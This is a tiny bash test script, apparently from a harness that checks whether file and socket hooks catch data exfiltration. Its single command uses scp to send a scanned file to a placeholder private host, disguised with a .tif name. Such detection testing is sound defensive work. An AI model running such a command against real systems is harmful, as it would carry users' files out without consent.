#!/usr/bin/env bash
# technique: scp
# hooks: file_open (of the scan), socket_recvmsg
# sink: private-ssh

. attack.sh
timeout 20 scp -q -P "$PORT_SSH" "$SCAN" "keeper@$PRIVATE_HOST:$here.tif"
